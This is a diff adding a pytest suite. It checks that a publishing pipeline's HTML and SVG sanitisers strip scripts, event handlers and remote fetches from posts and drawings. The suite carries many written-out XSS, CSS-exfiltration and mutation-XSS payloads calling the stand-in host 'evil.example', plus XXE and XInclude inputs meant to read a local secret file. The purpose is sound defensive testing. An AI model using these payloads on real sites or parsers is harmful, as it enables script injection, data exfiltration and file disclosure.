@@ -1,0 +1,216 @@
+"""What HTML and SVG may do to a reader, or fetch, does not come out of a post."""
+
+from __future__ import annotations
+
+import gzip
+from pathlib import Path
+
+import pytest
+from lxml import etree, html
+
+from pipeline.normalise.drawings import UnreadablePictureError, safe_drawing
+from tests.hostile.making import SECRET, body, published
+
+EVIL = "evil.example"
+_SVG = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
+
+IN_HTML = (
+    f"<script>fetch('//{EVIL}')</script>",
+    f"<script src=//{EVIL}></script>",
+    f"<scr<script>ipt>alert('{EVIL}')</script>",
+    f"<img src=x onerror=\"location='//{EVIL}'\">",
+    f"<a href=\"javascript:location='//{EVIL}'\">mot</a>",
+    f"<a href='java\tscript:{EVIL}'>mot</a>",
+    f"<a href='&#106;avascript:{EVIL}'>mot</a>",
+    f"<a href='java&#10;script&colon;{EVIL}'>mot</a>",
+    f"<a href='\x01javascript:{EVIL}'>mot</a>",
+    f"<a href='vbscript:{EVIL}'>mot</a>",
+    f"<a href='data:text/html,{EVIL}'>mot</a>",
+    f"[mot](javascript:{EVIL})",
+    f"[mot](JaVaScRiPt:{EVIL})",
+    f"[mot](<java\tscript:{EVIL}>)",
+    f"[mot](data:text/html;base64,{EVIL})",
+    f"[mot]: javascript:{EVIL}\n\n[mot]",
+    f"<javascript:{EVIL}>",
+    f"![mot](javascript:{EVIL})",
+    f"![mot](data:text/html,{EVIL})",
+    f"![mot](data:image/svg+xml,<svg/onload='{EVIL}'>)",
+    f"<base href='//{EVIL}/'>mot",
+    f"<meta http-equiv=refresh content='0;url=//{EVIL}'>mot",
+    f"<link rel=stylesheet href=//{EVIL}>mot",
+    f"<style>@import '//{EVIL}';</style>mot",
+    f"<p style=\"background:url('//{EVIL}')\">mot</p>",
+    f"<p style='-moz-binding:url(//{EVIL})'>mot</p>",
+    f"<td style='text-align:left;background:image-set(\"//{EVIL}\" 1x)'>mot</td>",
+    f"<table><tr><td style='text-align:left;background:u\\72l(//{EVIL})'>mot</td></tr></table>",
+    f"<img src=a.png srcset='//{EVIL} 2x' alt=mot>",
+    f"<picture><source srcset='//{EVIL}'><img src=a.png alt=mot></picture>",
+    f"<a href=voisin.md ping='//{EVIL}'>mot</a>",
+    f"<form action='//{EVIL}'><button formaction='//{EVIL}'>mot</button></form>",
+    f"<input type=image src='//{EVIL}' formaction='//{EVIL}'>mot",
+    f"<body background='//{EVIL}'>mot",
+    f"<table background='//{EVIL}'><tr><td background='//{EVIL}'>mot</td></tr></table>",
+    f"<video poster='//{EVIL}'></video>mot",
+    f"<math href='//{EVIL}'><maction actiontype='statusline#//{EVIL}'><mi>x</mi></maction></math>",
+    f"<math><mi xlink:href='//{EVIL}'>x</mi></math>",
+    f"<math><annotation-xml encoding='text/html'><img src=x onerror='{EVIL}'></annotation-xml></math>",
+    f"<svg onload='{EVIL}'><script>{EVIL}</script></svg>mot",
+    f"<svg><foreignObject><img src='//{EVIL}'></foreignObject></svg>mot",
+    f"<svg><style><img title='</style><img src=x onerror={EVIL}>'></style></svg>mot",
+    f"<noscript><p title='</noscript><img src=x onerror={EVIL}>'></noscript>mot",
+    f"<template><img src=x onerror={EVIL}></template>mot",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={EVIL}></style></mglyph></table></mtext></math>",
+    f"<!--><img src=x onerror={EVIL}>-->mot",
+    f"<![CDATA[><img src=x onerror={EVIL}>]]>mot",
+    f"<?xml-stylesheet href='//{EVIL}'?>mot",
+    f"<!DOCTYPE html [<!ENTITY x SYSTEM '//{EVIL}'>]>mot",
+    f"<details ontoggle='{EVIL}' open><summary>mot</summary></details>",
+    f"<x onclick='{EVIL}'>mot</x>",
+    f"<a target=_blank rel=opener onclick='{EVIL}' href=voisin.md>mot</a>",
+    f"mot{{onclick='{EVIL}'}}",
+    f"[mot]{{onclick='{EVIL}' style='background:url(//{EVIL})'}}",
+    f"::: {{.a onmouseover='{EVIL}'}}\nmot\n:::",
+    f"```{{=html}}\n<script>{EVIL}</script>\n```\n\nmot",
+    f"`<img src=x onerror={EVIL}>`{{=html}} mot",
+    f"```{{.python onclick='{EVIL}' startFrom='\"><script>{EVIL}</script>'}}\nmot\n```",
+    f"## mot {{onclick='{EVIL}'}}",
+    f"![mot](a.png){{onerror='{EVIL}' srcset='//{EVIL}'}}",
+)
+_MAY_HOLD = frozenset({"href", "title", "alt", "class", "id", "alttext"})
+
+
+@pytest.mark.parametrize("markdown", IN_HTML)
+def test_no_markup_of_a_post_acts_or_fetches(tmp_path: Path, markdown: str) -> None:
+    text = body(tmp_path, f"Avant.\n\n{markdown}\n\nAprès.", {"voisin.md": "Un mot."})
+    for element in html.fragment_fromstring(text, create_parent="div").iter():
+        assert isinstance(element.tag, str)
+        assert element.tag not in {
+            "script",
+            "style",
+            "base",
+            "meta",
+            "link",
+            "form",
+            "object",
+            "embed",
+            "iframe",
+            "svg",
+        }
+        for name, value in element.attrib.items():
+            assert not name.startswith("on")
+            assert EVIL not in value or name in _MAY_HOLD, f"{name}={value}"
+            if name in ("href", "src"):
+                scheme = "".join(value.partition(":")[0].split()).lower() if ":" in value else ""
+                assert scheme in {"", "http", "https", "mailto", "article", "asset"}, value
+    assert "Avant." in text
+
+
+IN_SVG = (
+    f"<script>fetch('//{EVIL}')</script>",
+    f"<script xlink:href='//{EVIL}'/>",
+    f"<image href='//{EVIL}/a.png'/>",
+    f"<image xlink:href='https://{EVIL}/a.png'/>",
+    f"<image xlink:href='file:///{EVIL}'/>",
+    f"<image href='data:image/svg+xml,{EVIL}'/>",
+    f"<image href='data:text/html,{EVIL}'/>",
+    f"<image href=' data:image/svg+xml;base64,{EVIL}'/>",
+    f"<use href='//{EVIL}#a'/>",
+    f"<use xlink:href='{EVIL}.svg#a'/>",
+    f"<feImage href='//{EVIL}'/>",
+    f"<a href='javascript:{EVIL}'><text>mot</text></a>",
+    f"<a href='https://{EVIL}'><text>mot</text></a>",
+    f"<a xlink:href='java&#9;script:{EVIL}'><text>mot</text></a>",
+    f"<g onload='{EVIL}'/>",
+    f"<g oNcLiCk='{EVIL}'/>",
+    f"<animate attributeName='href' values='//{EVIL}'/>",
+    f"<a><set attributeName='href' to='javascript:{EVIL}'/><text>mot</text></a>",
+    f"<animateTransform onbegin='{EVIL}'/>",
+    f"<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>{EVIL}</p></foreignObject>",
+    f"<foreignobject><iframe xmlns='http://www.w3.org/1999/xhtml' src='//{EVIL}'/></foreignobject>",
+    f"<handler type='text/javascript'>{EVIL}</handler>",
+    f"<style>@import url(//{EVIL});</style>",
+    f"<style>@im\\70ort '//{EVIL}';</style>",
+    f"<style>@font-face{{font-family:a;src:url(//{EVIL})}}</style>",
+    f"<style>a{{fill:u\\000072l(//{EVIL})}}</style>",
+    f"<style>a{{-moz-binding:url(//{EVIL}#x)}}</style>",
+    f"<style>a{{behavior:url(//{EVIL})}}</style>",
+    f"<style>a{{background:image-set('//{EVIL}' 1x)}}</style>",
+    f"<style>a{{background:url(/**/'//{EVIL}')}}</style>",
+    f"<style><![CDATA[@import '//{EVIL}';]]></style>",
+    f"<style><!-- @import '//{EVIL}'; --></style>",
+    f"<rect style='fill:url(//{EVIL}#a)'/>",
+    f"<rect fill='url(//{EVIL}#a)'/>",
+    f"<rect filter='url(\"https://{EVIL}#a\")'/>",
+    f"<rect mask='url(data:image/svg+xml,{EVIL})'/>",
+    f"<rect cursor='url(//{EVIL}),auto'/>",
+    f"<rect style='fill:\\75rl(//{EVIL})'/>",
+    f"<g xml:base='http://{EVIL}/'/>",
+    f"<audio src='//{EVIL}'/>",
+    f"<video xmlns='http://www.w3.org/1999/xhtml' src='//{EVIL}'/>",
+    f"<metadata><r:RDF xmlns:r='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><x onload='{EVIL}'/></r:RDF></metadata>",
+    f"<?xml-stylesheet href='//{EVIL}'?>",
+    f"<!-- {EVIL} -->",
+    f"<color-profile xlink:href='//{EVIL}'/>",
+    f"<cursor xlink:href='//{EVIL}'/>",
+    f"<discard href='//{EVIL}'/>",
+    f"<mpath href='//{EVIL}'/>",
+    f"<textPath href='//{EVIL}'/>",
+    f"<linearGradient id='l' href='//{EVIL}'/>",
+    f"<image src='//{EVIL}' srcset='//{EVIL} 2x'/>",
+    f"<p xmlns='http://www.w3.org/1999/xhtml'><img srcset='//{EVIL}'/></p>",
+)
+
+
+@pytest.mark.parametrize("inner", IN_SVG)
+def test_no_drawing_acts_or_fetches(inner: str) -> None:
+    drawing = safe_drawing(f"<svg {_SVG} viewBox='0 0 9 9'>{inner}<rect width='1' height='1'/></svg>".encode())
+    assert EVIL.encode() not in drawing.data
+    assert b"rect" in drawing.data
+    etree.fromstring(drawing.data)
+
+
+def test_no_drawing_reads_another_file(tmp_path: Path) -> None:
+    secret = tmp_path / "secret.txt"
+    secret.write_text(SECRET, "utf-8")
+    outer = tmp_path / "outer.dtd"
+    outer.write_text(f"<!ENTITY % f SYSTEM '{secret.as_uri()}'><!ENTITY % g \"<!ENTITY x '%f;'>\">%g;", "utf-8")
+    for declaration in (
+        f"<!ENTITY x SYSTEM '{secret.as_uri()}'>",
+        f"<!ENTITY x SYSTEM '{secret}'>",
+        f"<!ENTITY x PUBLIC 'a' '{secret.as_uri()}'>",
+        f"<!ENTITY % p SYSTEM '{outer.as_uri()}'> %p;",
+        f"<!ENTITY % p \"<!ENTITY x SYSTEM '{secret.as_uri()}'>\"> %p;",
+    ):
+        text = f"<!DOCTYPE svg [{declaration}]><svg {_SVG}><text>avant&x;après</text></svg>"
+        assert SECRET not in _outcome(text.encode())
+    for text in (
+        f"<!DOCTYPE svg SYSTEM '{outer.as_uri()}'><svg {_SVG}><text>&x;</text></svg>",
+        f"<svg {_SVG} xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='{secret.as_uri()}' parse='text'/></svg>",
+        f"<?xml-stylesheet href='{secret.as_uri()}'?><svg {_SVG}/>",
+    ):
+        assert SECRET not in _outcome(text.encode())
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-7", "utf-32", "ebcdic-cp-us", "iso-8859-1"])
+def test_no_encoding_hides_a_script(encoding: str) -> None:
+    text = f"<?xml version='1.0' encoding='{encoding}'?><svg {_SVG}><script>{EVIL}</script></svg>"
+    assert EVIL not in _outcome(text.encode("cp500" if encoding == "ebcdic-cp-us" else encoding))
+
+
+def _outcome(svg: bytes) -> str:
+    """The drawing, or why there is none."""
+    try:
+        return safe_drawing(svg).data.decode()
+    except UnreadablePictureError as error:
+        return str(error)
+
+
+def test_what_links_lead_to_is_harmless_too(tmp_path: Path) -> None:
+    svg = f"<svg {_SVG} onload='{EVIL}'><script>{EVIL}</script></svg>".encode()
+    files = published(
+        tmp_path, {"essai.md": "[a](a.svg) [b](b.svgz) ![c](a.svg)", "a.svg": svg, "b.svgz": gzip.compress(svg)}, "site"
+    )
+    assert sum(name.endswith((".svg", ".svgz")) for name in files) >= 3  # and the icon
+    for name, data in files.items():
+        if name.endswith((".svg", ".svgz")):
+            assert EVIL.encode() not in (gzip.decompress(data) if name.endswith("z") else data)
